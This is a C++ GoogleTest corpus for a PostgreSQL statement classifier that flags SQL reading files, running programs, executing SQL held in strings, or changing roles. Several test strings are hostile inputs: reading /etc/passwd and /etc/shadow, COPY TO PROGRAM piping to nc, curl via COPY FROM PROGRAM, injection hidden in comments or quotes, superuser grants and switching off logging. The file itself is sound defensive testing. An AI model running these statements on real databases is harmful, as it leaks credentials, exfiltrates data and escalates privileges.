// The classification corpus: each SQL string with the exact classes of each
// statement, and the exact relations, functions and flags over the string.
// Relations are written NAME:USAGE (schema-wide operations as SCHEMA.*).
#include <gtest/gtest.h>

#include <string_view>
#include <vector>

#include "corpus_check.h"

namespace pgw::sql {
namespace {

struct Case {
  std::string_view sql;
  std::string_view classes;
  std::string_view relations = "";
  std::string_view functions = "";
  std::uint32_t flags = 0;
};

constexpr std::uint32_t EXPLAIN = kExplainOnly;
constexpr std::uint32_t DENY = kDenylistedFunction;
constexpr std::uint32_t DENY_FILE = kTouchesFiles | kDenylistedFunction;
constexpr std::uint32_t DENY_SQL = kRunsSqlString | kDenylistedFunction;
constexpr std::uint32_t COPY_FILE = kCopyFile | kTouchesFiles;
constexpr std::uint32_t COPY_PROGRAM = kCopyProgram | kTouchesFiles;
constexpr std::uint32_t DYNAMIC = kDynamicSql | kRunsSqlString;
constexpr std::uint32_t DO_UNKNOWN = kDoBodyUnknown;

const std::vector<Case>& corpus() {
  static const std::vector<Case> cases = {
      // ---- reads -------------------------------------------------------------------
      {"SELECT abalance FROM pgbench_accounts WHERE aid = 1", "select", "pgbench_accounts:read"},
      {"SELECT 1", "select"},
      {"select * from public.orders o join public.customers c on c.id = o.customer_id", "select",
       "public.orders:read public.customers:read", "customer_id? id?"},
      {"SELECT * FROM a, b WHERE a.x = b.x", "select", "a:read b:read", "x?"},
      {"SELECT * FROM (SELECT * FROM inner_t) sub", "select", "inner_t:read"},
      {"SELECT * FROM t WHERE id IN (SELECT id FROM u)", "select", "t:read u:read"},
      {"SELECT (SELECT max(x) FROM u) FROM t", "select", "t:read u:read", "max"},
      {"SELECT count(*) FROM t GROUP BY a HAVING sum(b) > (SELECT 1 FROM h.x)", "select",
       "t:read h.x:read", "count sum"},
      {"TABLE hr.salaries", "select", "hr.salaries:read"},
      {"VALUES (1), (2)", "select"},
      {"SELECT * FROM t1 UNION SELECT * FROM t2 EXCEPT SELECT * FROM t3", "select",
       "t1:read t2:read t3:read"},
      {"SELECT * FROM ONLY parent_t", "select", "parent_t:read"},
      {"SELECT * FROM mydb.public.t", "select", "mydb.public.t:read"},
      {"SELECT * FROM t LEFT JOIN LATERAL (SELECT * FROM u WHERE u.id = t.id) x ON true",
       "select", "t:read u:read", "id?"},
      {"SELECT * FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.a = t.a)", "select",
       "t:read u:read", "a?"},
      {"SELECT row_number() OVER (PARTITION BY a ORDER BY b) FROM t", "select", "t:read",
       "row_number"},
      {"SELECT * FROM t TABLESAMPLE SYSTEM (10)", "select", "t:read"},
      {"SELECT CASE WHEN a THEN (SELECT 1 FROM u) END FROM t", "select", "t:read u:read"},
      {"SELECT ARRAY(SELECT x FROM u)", "select", "u:read"},
      {"SELECT * FROM t WHERE a = ANY (SELECT b FROM u)", "select", "t:read u:read"},
      {"SELECT * FROM \"Quoted Table\"", "select", "Quoted Table:read"},
      {"SELECT * FROM HR.Salaries", "select", "hr.salaries:read"},
      {"SELECT * FROM \"HR\".\"Salaries\"", "select", "HR.Salaries:read"},
      // Unicode escapes are decoded by the parser.
      {"SELECT * FROM U&\"d\\0061t\\+000061\"", "select", "data:read"},
      {"SELECT * FROM U&\"h\\0072\".U&\"s\\0061laries\"", "select", "hr.salaries:read"},
      {"SELECT * FROM U&\"h!0072\" UESCAPE '!' . salaries", "select", "hr.salaries:read"},
      // Comments, quotes and dollar quoting hiding keywords.
      {"SELECT /* DELETE FROM t */ 1 -- DROP TABLE x", "select"},
      {"SELECT /* outer /* nested */ DELETE FROM t; */ 1", "select"},
      {"SELECT $$DELETE FROM t; DROP TABLE u$$", "select"},
      {"SELECT $tag$ '; DELETE FROM t; -- $tag$", "select"},
      {"SELECT 'it''s; DROP TABLE t'", "select"},
      {"SELECT E'\\'; DROP TABLE t; --'", "select"},
      {"SELECT E'\\\\'; DROP TABLE t; --'", "select | ddl,drop", "t:ddl"},
      {"SELECT 1 AS \"; DELETE FROM t; --\"", "select"},
      // ---- multi-statement strings -------------------------------------------------
      {"SELECT 1; DELETE FROM t; SELECT 2", "select | delete | select", "t:read,write"},
      {"BEGIN; UPDATE a SET x = 1; COMMIT", "transaction | update | transaction", "a:read,write", "", kEndsTransactionScope},
      {"SELECT * FROM t;;;", "select", "t:read"},
      {"select 1;insert into log values (now())", "select | insert", "log:write", "now"},
      // ---- DML ---------------------------------------------------------------------
      {"INSERT INTO t (a) VALUES (1)", "insert", "t:write"},
      {"INSERT INTO t SELECT * FROM u", "insert,select", "t:write u:read"},
      {"INSERT INTO t VALUES (1) RETURNING *", "insert", "t:read,write"},
      {"INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 2", "insert,update",
       "t:read,write"},
      {"INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", "insert", "t:read,write"},
      {"INSERT INTO t VALUES ((SELECT max(a) FROM u))", "insert,select", "t:write u:read", "max"},
      {"UPDATE t SET a = 1 WHERE b = 2", "update", "t:read,write"},
      {"UPDATE t SET a = u.a FROM u WHERE t.id = u.id", "update", "t:read,write u:read", "a? id?"},
      {"UPDATE t SET a = 1 RETURNING a", "update", "t:read,write"},
      {"DELETE FROM t WHERE id = 1", "delete", "t:read,write"},
      {"DELETE FROM t USING u WHERE t.id = u.id RETURNING t.*", "delete", "t:read,write u:read", "id?"},
      {"DELETE FROM ONLY t WHERE CURRENT OF c", "delete", "t:read,write"},
      {"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a "
       "WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.a)",
       "merge,insert,update", "t:read,write s:read", "a? id?"},
      {"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "merge,delete",
       "t:read,write s:read", "id?"},
      {"MERGE INTO t USING (SELECT * FROM s) src ON true WHEN MATCHED THEN DO NOTHING",
       "merge,select", "t:read,write s:read"},
      // ---- CTEs --------------------------------------------------------------------
      {"WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "select,delete", "t:read,write"},
      {"WITH x AS (SELECT * FROM t) SELECT * FROM x", "select", "t:read"},
      {"WITH u AS (UPDATE t SET a = 1 RETURNING *) INSERT INTO log SELECT * FROM u",
       "insert,update,select", "log:write t:read,write"},
      {"WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) "
       "SELECT * FROM r",
       "select"},
      {"WITH salaries AS (SELECT * FROM salaries) SELECT * FROM salaries", "select",
       "salaries:read"},
      {"WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b", "select"},
      {"WITH b AS (SELECT * FROM a), a AS (SELECT 1) SELECT * FROM b", "select", "a:read"},
      {"SELECT * FROM salaries, (WITH salaries AS (SELECT 1) SELECT * FROM salaries) x", "select",
       "salaries:read"},
      {"WITH x AS (SELECT 1) SELECT * FROM public.x", "select", "public.x:read"},
      {"WITH t AS (SELECT 1) DELETE FROM t", "delete,select", "t:read,write"},
      {"WITH t AS (SELECT 1) UPDATE u SET a = 1 FROM t", "update,select", "u:read,write"},
      {"WITH ins AS (INSERT INTO audit VALUES (1) RETURNING id) SELECT id FROM ins",
       "select,insert", "audit:read,write"},
      {"WITH RECURSIVE t AS (SELECT * FROM t) SELECT 1", "select"},
      {"SELECT * FROM (WITH q AS (DELETE FROM t RETURNING 1) SELECT * FROM q) s",
       "select,delete", "t:read,write"},
      {"WITH v AS (VALUES (1)) INSERT INTO t SELECT * FROM v", "insert,select", "t:write"},
      // ---- EXPLAIN -----------------------------------------------------------------
      {"EXPLAIN SELECT * FROM t", "select", "t:read", "", EXPLAIN},
      {"EXPLAIN DELETE FROM t", "select", "t:read,write", "", EXPLAIN},
      {"EXPLAIN ANALYZE DELETE FROM t", "delete", "t:read,write"},
      {"EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1", "update", "t:read,write"},
      {"EXPLAIN (ANALYZE false) DELETE FROM t", "select", "t:read,write", "", EXPLAIN},
      {"EXPLAIN (ANALYZE off, COSTS on) INSERT INTO t VALUES (1)", "select", "t:write", "",
       EXPLAIN},
      {"EXPLAIN (ANALYZE 1) DELETE FROM t", "delete", "t:read,write"},
      {"EXPLAIN (ANALYZE 'on') DELETE FROM t", "delete", "t:read,write"},
      {"EXPLAIN ANALYZE VERBOSE WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
       "select,delete", "t:read,write"},
      {"EXPLAIN ANALYZE CREATE TABLE x AS SELECT * FROM t", "ddl,create,select",
       "t:read x:write,ddl"},
      {"EXPLAIN SELECT pg_read_file('/etc/passwd')", "select", "", "pg_read_file",
       EXPLAIN | DENY_FILE},
      {"EXPLAIN EXECUTE p", "select", "", "", EXPLAIN},
      {"EXPLAIN ANALYZE EXECUTE p(1)", "execute"},
      // ---- PREPARE / EXECUTE -------------------------------------------------------
      {"PREPARE p AS DELETE FROM t WHERE id = $1", "prepare,delete", "t:read,write"},
      {"PREPARE q (int) AS SELECT * FROM t WHERE id = $1", "prepare,select", "t:read"},
      {"EXECUTE p(1)", "execute"},
      {"EXECUTE p(pg_read_file('/etc/passwd'))", "execute", "", "pg_read_file", DENY_FILE},
      {"DEALLOCATE p", "deallocate"},
      {"DEALLOCATE ALL", "deallocate"},
      {"DEALLOCATE PREPARE p", "deallocate"},
      {"CREATE TABLE x AS EXECUTE p", "ddl,create,execute", "x:write,ddl"},
      // ---- DO and CALL -------------------------------------------------------------
      {"DO $$BEGIN DELETE FROM t; END$$", "procedural,delete", "t:read,write"},
      {"DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$", "procedural,select", "",
       "pg_read_file", DENY_FILE},
      {"DO LANGUAGE plpgsql $body$ DECLARE n int := (SELECT count(*) FROM hr.salaries); "
       "BEGIN RAISE NOTICE '%', n; END $body$",
       "procedural,select", "hr.salaries:read", "count"},
      {"DO 'BEGIN UPDATE t SET a = 1; END'", "procedural,update", "t:read,write"},
      {"DO $$BEGIN EXECUTE 'DROP TABLE x'; END$$", "procedural,select,ddl,drop", "x:ddl"},
      {"DO $$BEGIN EXECUTE 'DELETE FROM ' || 't'; END$$", "procedural,select,unknown", "", "",
       DYNAMIC},
      {"DO $$BEGIN EXECUTE format('DROP TABLE %I', 'x'); END$$", "procedural,select,unknown", "",
       "format", DYNAMIC},
      {"DO LANGUAGE plpython3u $$ plpy.execute('DROP TABLE x') $$", "procedural,unknown", "", "",
       DO_UNKNOWN},
      {"DO $$ this is not plpgsql $$", "procedural,unknown", "", "", DO_UNKNOWN},
      {"DO $$BEGIN IF (SELECT count(*) FROM t) > 0 THEN INSERT INTO u VALUES (1); "
       "ELSE DELETE FROM v; END IF; END$$",
       "procedural,select,insert,delete", "t:read u:write v:read,write", "count"},
      {"DO $$DECLARE r record; BEGIN FOR r IN SELECT * FROM t LOOP UPDATE u SET a = r.a; "
       "END LOOP; END$$",
       "procedural,select,update", "t:read u:read,write", "a?"},
      {"DO $$BEGIN COMMIT; END$$", "procedural,transaction"},
      {"DO $$BEGIN CALL p(); END$$", "procedural", "", "p"},
      {"DO $$BEGIN PERFORM set_config('role', 'admin', false); END$$", "procedural,select,role",
       "", "set_config"},
      {"DO $$BEGIN BEGIN DELETE FROM t; EXCEPTION WHEN others THEN TRUNCATE u; END; END$$",
       "procedural,delete,truncate", "t:read,write u:write,truncate"},
      {"DO $o$BEGIN EXECUTE $q$DO $i$BEGIN DELETE FROM t; END$i$$q$; END$o$",
       "procedural,select,delete", "t:read,write"},
      {"CALL my_proc(1, 2)", "procedural", "", "my_proc"},
      {"CALL admin.rotate_keys()", "procedural", "", "admin.rotate_keys"},
      {"CALL p((SELECT max(a) FROM t))", "procedural,select", "t:read", "max p"},
      // ---- SELECT INTO, CREATE TABLE AS, views --------------------------------------
      {"SELECT * INTO new_t FROM t", "select,ddl,create", "new_t:write,ddl t:read"},
      {"CREATE TABLE x AS SELECT * FROM hr.salaries", "ddl,create,select",
       "hr.salaries:read x:write,ddl"},
      {"CREATE MATERIALIZED VIEW mv AS SELECT * FROM t", "ddl,create,select",
       "mv:write,ddl t:read"},
      {"CREATE TEMP TABLE tmp AS VALUES (1)", "ddl,create,select", "tmp:write,ddl"},
      {"CREATE VIEW v AS SELECT * FROM hr.salaries", "ddl,create,select",
       "hr.salaries:read v:ddl"},
      // ---- COPY --------------------------------------------------------------------
      {"COPY t FROM STDIN", "copy_from", "t:write,copy"},
      {"COPY t TO STDOUT", "copy_to", "t:read,copy"},
      {"COPY (SELECT * FROM hr.salaries) TO STDOUT WITH CSV", "copy_to,select",
       "hr.salaries:read"},
      {"COPY t TO '/tmp/x.csv'", "copy_to", "t:read,copy", "", COPY_FILE},
      {"COPY t FROM '/etc/passwd'", "copy_from", "t:write,copy", "", COPY_FILE},
      {"COPY t FROM PROGRAM 'curl http://x'", "copy_from", "t:write,copy", "", COPY_PROGRAM},
      {"COPY (DELETE FROM t RETURNING *) TO STDOUT", "copy_to,delete", "t:read,write"},
      {"COPY t (a, b) FROM STDIN WHERE a > 0", "copy_from", "t:write,copy"},
      {"COPY (SELECT pg_read_file('/etc/shadow')) TO PROGRAM 'nc x 1'", "copy_to,select", "",
       "pg_read_file", COPY_PROGRAM | DENY_FILE},
      // ---- roles and settings -------------------------------------------------------
      {"SET ROLE admin", "role"},
      {"SET SESSION AUTHORIZATION postgres", "role"},
      {"SET SESSION AUTHORIZATION DEFAULT", "role"},
      {"RESET ROLE", "role"},
      {"SET LOCAL ROLE admin", "role"},
      {"SET ROLE NONE", "role"},
      {"SET \"ROLE\" = 'admin'", "role"},
      // set_config() is judged by the setting it changes, like SET; a computed
      // name makes the engine ask the server afterwards what changed.
      {"SELECT set_config('role', 'admin', false)", "select,role", "", "set_config"},
      {"SELECT pg_catalog.set_config('session_authorization', 'postgres', true)", "select,role",
       "", "pg_catalog.set_config"},
      {"SELECT set_config('search_path', 'hr,public', false)", "select,set", "", "set_config"},
      {"SELECT set_config(name, 'x', false) FROM t", "select,set", "t:read", "set_config", kUnknownSetting},
      {"SET search_path = hr, public", "set"},
      {"SET search_path TO DEFAULT", "set"},
      {"SET SCHEMA 'hr'", "set"},
      {"RESET ALL", "set"},
      {"SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", "transaction"},
      {"SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", "transaction,set"},
      {"SET standard_conforming_strings = off", "set"},
      {"SET NAMES 'SJIS'", "set"},
      {"SHOW search_path", "select"},
      {"DISCARD ALL", "set,role,deallocate,listen"},
      {"DISCARD PLANS", "set"},
      {"SELECT current_setting('role')", "select", "", "current_setting"},
      // ---- DDL ---------------------------------------------------------------------
      {"CREATE TABLE t (id int PRIMARY KEY, b text DEFAULT 'x')", "ddl,create", "t:ddl"},
      {"CREATE TABLE t2 (LIKE hr.salaries INCLUDING ALL)", "ddl,create",
       "t2:ddl hr.salaries:ddl"},
      {"CREATE TABLE c (id int REFERENCES hr.employees(id))", "ddl,create",
       "c:ddl hr.employees:ddl"},
      {"ALTER TABLE hr.salaries ADD COLUMN note text DEFAULT pg_read_file('/etc/passwd')",
       "ddl,alter", "hr.salaries:ddl", "pg_read_file", DENY_FILE},
      {"ALTER TABLE t RENAME TO u", "ddl,alter", "t:ddl"},
      {"DROP TABLE hr.salaries", "ddl,drop", "hr.salaries:ddl"},
      {"DROP TABLE IF EXISTS a, b.c CASCADE", "ddl,drop", "a:ddl b.c:ddl"},
      {"DROP VIEW v", "ddl,drop", "v:ddl"},
      {"DROP INDEX CONCURRENTLY idx", "ddl,drop", "idx:ddl"},
      {"DROP TRIGGER trg ON hr.salaries", "ddl,drop", "hr.salaries:ddl"},
      {"DROP SCHEMA hr CASCADE", "ddl,drop", "hr.*:ddl"},
      {"DROP FUNCTION f(int)", "ddl,drop"},
      {"CREATE INDEX ON hr.salaries (amount)", "ddl,create", "hr.salaries:ddl"},
      {"CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "ddl,create"},
      {"CREATE FUNCTION g() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END",
       "ddl,create,delete", "t:read,write"},
      {"CREATE TRIGGER trg AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION audit_fn()",
       "ddl,create", "t:ddl"},
      {"CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u", "ddl,create,delete",
       "t:ddl u:read,write"},
      {"CREATE SCHEMA s CREATE TABLE s1 (a int)", "ddl,create", "s.*:ddl s1:ddl"},
      {"CREATE EXTENSION dblink", "ddl,create"},
      {"COMMENT ON TABLE hr.salaries IS 'x'", "ddl,alter", "hr.salaries:ddl"},
      {"COMMENT ON COLUMN hr.salaries.amount IS 'x'", "ddl,alter", "hr.salaries:ddl"},
      {"ALTER SCHEMA hr RENAME TO hr2", "ddl,alter", "hr.*:ddl"},
      {"ALTER TABLE x SET SCHEMA hr", "ddl,alter", "x:ddl hr.*:ddl"},
      {"CREATE SEQUENCE s1", "ddl,create", "s1:ddl"},
      {"ALTER TABLE t ATTACH PARTITION p FOR VALUES IN (1)", "ddl,alter", "t:ddl p:ddl"},
      {"CREATE POLICY p ON hr.salaries USING (true)", "ddl,create", "hr.salaries:ddl"},
      {"REFRESH MATERIALIZED VIEW mv", "admin", "mv:write,admin"},
      // ---- DCL ---------------------------------------------------------------------
      {"GRANT SELECT ON hr.salaries TO agent", "grant", "hr.salaries:ddl"},
      {"REVOKE ALL ON ALL TABLES IN SCHEMA hr FROM agent", "grant", "hr.*:ddl"},
      {"GRANT admin TO agent", "grant"},
      {"GRANT USAGE ON SCHEMA hr TO agent", "grant", "hr.*:ddl"},
      {"CREATE ROLE r LOGIN SUPERUSER", "grant,ddl,create"},
      {"ALTER ROLE agent SET role = 'admin'", "grant,ddl,alter"},
      {"ALTER USER agent WITH SUPERUSER", "grant,ddl,alter"},
      {"DROP ROLE r", "grant,ddl,drop"},
      {"ALTER DEFAULT PRIVILEGES IN SCHEMA hr GRANT SELECT ON TABLES TO agent",
       "grant,ddl,alter"},
      // ---- admin -------------------------------------------------------------------
      {"VACUUM FULL hr.salaries", "admin", "hr.salaries:admin"},
      {"ANALYZE t", "admin", "t:admin"},
      {"REINDEX TABLE t", "admin", "t:admin"},
      {"CLUSTER t USING idx", "admin", "t:admin"},
      {"CHECKPOINT", "admin"},
      {"LOAD 'auto_explain'", "admin"},
      {"ALTER SYSTEM SET log_statement = 'none'", "admin"},
      // ---- LOCK, TRUNCATE, FOR UPDATE ----------------------------------------------
      {"LOCK TABLE hr.salaries IN ACCESS EXCLUSIVE MODE", "lock", "hr.salaries:lock"},
      {"LOCK a, b", "lock", "a:lock b:lock"},
      // ACCESS SHARE is what every SELECT takes (pg_dump locks each table so).
      {"LOCK TABLE hr.salaries IN ACCESS SHARE MODE", "select", "hr.salaries:read"},
      {"LOCK TABLE ONLY a, b IN ACCESS SHARE MODE NOWAIT", "select", "a:read b:read"},
      {"LOCK TABLE a IN ROW SHARE MODE", "lock", "a:lock"},
      {"TRUNCATE hr.salaries", "truncate", "hr.salaries:write,truncate"},
      {"TRUNCATE TABLE a, b RESTART IDENTITY CASCADE", "truncate", "a:write,truncate b:write,truncate"},
      {"SELECT * FROM t FOR UPDATE", "select,lock", "t:read,lock"},
      {"SELECT * FROM t JOIN u ON true FOR SHARE OF t NOWAIT", "select,lock",
       "t:read,lock u:read,lock"},
      {"SELECT * FROM t WHERE a IN (SELECT a FROM u) FOR UPDATE SKIP LOCKED", "select,lock",
       "t:read,lock u:read"},
      {"SELECT * FROM (SELECT * FROM t) s FOR NO KEY UPDATE", "select,lock", "t:read,lock"},
      // ---- functions ---------------------------------------------------------------
      // SQL in a string runs with the effects it would have written out.
      {"SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(a int)", "select,delete", "t:read,write",
       "dblink", DENY_SQL},
      {"SELECT dblink_exec('conn', 'DROP TABLE t')", "select,ddl,drop", "t:ddl", "dblink_exec", DENY_SQL},
      {"SELECT dblink_open('c', 'SELECT * FROM hr.salaries')", "select", "hr.salaries:read", "dblink_open",
       DENY_SQL},
      {"SELECT dblink_exec(current_setting('x'), 'SELECT 1')", "select,unknown", "",
       "dblink_exec current_setting", DENY_SQL | DYNAMIC},
      {"SELECT * FROM generate_series(1, 10)", "select", "", "generate_series"},
      {"SELECT * FROM ROWS FROM (generate_series(1, 2), unnest(ARRAY[1]))", "select", "",
       "generate_series unnest"},
      {"SELECT query_to_xml('SELECT * FROM hr.salaries', true, false, '')", "select", "hr.salaries:read",
       "query_to_xml", DENY_SQL},
      {"SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')", "select,delete", "t:read,write",
       "query_to_xml", DENY_SQL},
      {"SELECT query_to_xmlschema('SELECT setval(''s'', 1)', true, false, '')", "select,update", "s:write",
       "query_to_xmlschema setval", DENY_SQL},
      {"SELECT query_to_xml_and_xmlschema(query => 'SELECT pg_advisory_lock(1)', nulls => true, "
       "tableforest => false, targetns => '')",
       "select,lock", "", "query_to_xml_and_xmlschema pg_advisory_lock", DENY_SQL},
      {"SELECT query_to_xml(q, true, false, '') FROM t", "select,unknown", "t:read", "query_to_xml",
       DENY_SQL | DYNAMIC},
      {"SELECT query_to_xml('SELEC oops', true, false, '')", "select,unknown", "", "query_to_xml",
       DENY_SQL | DYNAMIC},
      {"SELECT query_to_xml('SELECT query_to_xml(''UPDATE u SET a = 1 RETURNING 1'', true, false, '''')', "
       "true, false, '')",
       "select,update", "u:read,write", "query_to_xml", DENY_SQL},
      {"EXPLAIN SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')", "select", "t:read,write",
       "query_to_xml", DENY_SQL | EXPLAIN},
      {"SELECT * FROM ts_stat('UPDATE t SET a = 1 RETURNING v')", "select,update", "t:read,write", "ts_stat",
       DENY_SQL},
      {"SELECT table_to_xml('hr.salaries', true, false, '')", "select", "hr.salaries:read", "table_to_xml",
       DENY_SQL},
      {"SELECT table_to_xml(tbl => '\"HR\".Salaries'::regclass, nulls => true, tableforest => false, "
       "targetns => '')",
       "select", "HR.salaries:read", "table_to_xml", DENY_SQL},
      {"SELECT table_to_xml(c.oid::regclass, true, false, '') FROM pg_class c", "select,unknown",
       "pg_class:read", "oid? table_to_xml", DENY_SQL | DYNAMIC},
      {"SELECT schema_to_xml('hr', true, false, '')", "select", "hr.*:read", "schema_to_xml", DENY_SQL},
      {"SELECT database_to_xml(true, false, '')", "select", "*.*:read", "database_to_xml", DENY_SQL},
      {"SELECT cursor_to_xml('c', 10, true, false, '')", "select", "", "cursor_to_xml", DENY_SQL},
      {"SELECT * FROM XMLTABLE('/r' PASSING (SELECT x FROM t) COLUMNS a int)", "select",
       "t:read"},
      {"SELECT lo_import('/etc/passwd')", "select", "", "lo_import", DENY_FILE},
      {"SELECT lo_get(1234)", "select", "", "lo_get", DENY},
      {"SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "select",
       "pg_stat_activity:read", "pg_terminate_backend", DENY},
      // Sequences: nextval and setval write them (no rollback undoes it);
      // currval reads. The name is in a string, split as regclass does.
      {"SELECT nextval('hr.seq')", "select,update", "hr.seq:write", "nextval"},
      {"SELECT setval('orders_id_seq', 5000)", "select,update", "orders_id_seq:write", "setval"},
      {"SELECT pg_catalog.setval('public.orders_id_seq'::regclass, 1, false)", "select,update",
       "public.orders_id_seq:write", "pg_catalog.setval"},
      {"SELECT nextval(' \"Odd Seq\" ')", "select,update", "Odd Seq:write", "nextval"},
      {"SELECT nextval('Db.HR.Seq')", "select,update", "db.hr.seq:write", "nextval"},
      {"SELECT * FROM nextval('s')", "select,update", "s:write", "nextval"},
      {"SELECT nextval(pg_get_serial_sequence('orders', 'id'))", "select,update", "",
       "nextval pg_get_serial_sequence"},
      {"SELECT nextval('16384')", "select,update", "", "nextval"},
      {"SELECT nextval('a.b.c.d')", "select,update", "", "nextval"},
      {"EXPLAIN SELECT nextval('s')", "select", "s:write", "nextval", EXPLAIN},
      {"SELECT currval('s'), lastval(), pg_sequence_last_value('hr.s')", "select", "s:read hr.s:read",
       "currval lastval pg_sequence_last_value"},
      // Advisory locks are locks.
      {"SELECT pg_advisory_lock(1)", "select,lock", "", "pg_advisory_lock"},
      {"SELECT pg_try_advisory_xact_lock_shared(1, 2), pg_advisory_unlock_all()", "select,lock", "",
       "pg_try_advisory_xact_lock_shared pg_advisory_unlock_all"},
      {"SELECT PG_ADVISORY_XACT_LOCK(hashtext(x)) FROM t", "select,lock", "t:read",
       "pg_advisory_xact_lock hashtext"},
      // Maintenance by function call.
      {"SELECT brin_summarize_new_values('orders_brin')", "select,admin", "orders_brin:admin",
       "brin_summarize_new_values"},
      {"SELECT pg_stat_reset_single_table_counters(1)", "select,admin", "",
       "pg_stat_reset_single_table_counters"},
      {"SELECT lower(upper(trim(x))) FROM t", "select", "t:read", "lower upper pg_catalog.btrim"},
      // ---- LISTEN / NOTIFY ---------------------------------------------------------
      {"LISTEN chan", "listen"},
      {"UNLISTEN *", "listen"},
      {"NOTIFY chan, 'payload'", "notify"},
      {"SELECT pg_notify('chan', 'x')", "select,notify", "", "pg_notify"},
      // ---- transactions and cursors ------------------------------------------------
      {"BEGIN ISOLATION LEVEL SERIALIZABLE", "transaction"},
      {"START TRANSACTION READ WRITE", "transaction"},
      {"COMMIT", "transaction", "", "", kEndsTransactionScope},
      {"ROLLBACK TO SAVEPOINT s", "transaction", "", "", kEndsTransactionScope},
      {"ROLLBACK", "transaction", "", "", kEndsTransactionScope},
      {"END", "transaction", "", "", kEndsTransactionScope},
      {"ABORT", "transaction", "", "", kEndsTransactionScope},
      {"RELEASE SAVEPOINT s", "transaction"},
      {"SAVEPOINT s", "transaction"},
      {"PREPARE TRANSACTION 'x'", "transaction", "", "", kEndsTransactionScope},
      {"SET CONSTRAINTS ALL DEFERRED", "transaction"},
      {"DECLARE c CURSOR FOR SELECT * FROM hr.salaries", "select", "hr.salaries:read"},
      {"FETCH 10 FROM c", "select"},
      {"CLOSE c", "select"},
  };
  return cases;
}

class Corpus : public ::testing::TestWithParam<std::size_t> {};

TEST_P(Corpus, MatchesExpectation) {
  const Case& c = corpus()[GetParam()];
  Analysis a = analyze(c.sql);
  ASSERT_TRUE(a.ok()) << c.sql << "\n" << a.error_message;
  SCOPED_TRACE(std::string(c.sql));
  EXPECT_EQ(test::classes_of(a), test::canonical_classes(c.classes));
  EXPECT_EQ(test::relations_of(a), test::join_sorted(test::split(c.relations, ' ')));
  EXPECT_EQ(test::functions_of(a), test::join_sorted(test::split(c.functions, ' ')));
  EXPECT_EQ(flags_to_string(test::flags_of(a)), flags_to_string(c.flags));
}

INSTANTIATE_TEST_SUITE_P(Statements, Corpus, ::testing::Range<std::size_t>(0, corpus().size()));

TEST(CorpusSize, AtLeast150Statements) {
  std::size_t statements = 0;
  for (const auto& c : corpus()) statements += analyze(c.sql).statements.size();
  EXPECT_GE(statements, 150u);
}

}  // namespace
}  // namespace pgw::sql
